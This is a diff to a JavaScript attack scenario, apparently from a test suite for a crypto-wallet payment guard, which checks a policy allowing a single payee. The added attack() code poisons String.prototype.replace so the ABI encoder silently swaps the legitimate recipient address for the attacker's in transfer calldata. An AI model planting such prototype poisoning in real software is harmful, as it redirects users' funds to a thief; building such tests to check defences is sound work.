@@ -1,4 +1,4 @@
-// A10, upstream: String.prototype.toLowerCase is poisoned, so the ABI encoder writes the attacker as recipient of transfer.
+// A10, upstream: String.prototype.replace is poisoned, so the ABI encoder writes the attacker as recipient of transfer.
 import { reachedWallet } from './logs.mjs';
 
 export default {
@@ -9,11 +9,13 @@ export default {
   policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.TOKEN}`] }),
 
   attack(a) {
-    const { toLowerCase } = String.prototype;
-    const evil = toLowerCase.call(a.EVIL);
-    String.prototype.toLowerCase = function () {
-      const lower = toLowerCase.call(this);
-      return lower === toLowerCase.call(a.GOOD) ? evil : lower;
+    const { replace } = String.prototype;
+    const good = a.GOOD.slice(2).toLowerCase();
+    const evil = a.EVIL.slice(2).toLowerCase();
+    String.prototype.replace = function (...args) {
+      const text = replace.apply(this, args);
+      // One word of calldata as the encoder strips its 0x: the recipient.
+      return text.length === 64 && text.endsWith(good) ? replace.call(text, good, evil) : text;
     };
   },
 
